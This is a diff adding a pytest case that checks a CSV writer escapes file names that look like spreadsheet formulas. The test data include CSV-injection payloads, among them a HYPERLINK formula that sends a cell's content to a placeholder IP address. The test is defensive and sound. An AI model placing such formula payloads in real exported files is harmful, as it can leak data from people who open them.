@@ -38,6 +38,14 @@ def test_a_table_appears_whole_and_its_verdicts_are_counted(tmp_path: Path):
     assert list(tmp_path.iterdir()) == [out]
 
 
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://192.0.2.1?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1+1.png"])
+def test_a_files_name_is_no_formula(tmp_path: Path, name: str):
+    rows = iter([{"file": name, "verdict": "failed"}, {"file": "scans/=1.png", "verdict": "failed"}])
+    write_table(tmp_path / "x.csv", HEADS, rows)
+    with (tmp_path / "x.csv").open(newline="", encoding="utf-8") as lines:
+        assert [row["file"] for row in csv.DictReader(lines)] == [f"'{name}", "scans/=1.png"]
+
+
 def test_a_place_that_is_no_file_is_refused_before_any_work(tmp_path: Path):
     folder, pipe = tmp_path / "folder", tmp_path / "pipe"
     folder.mkdir()
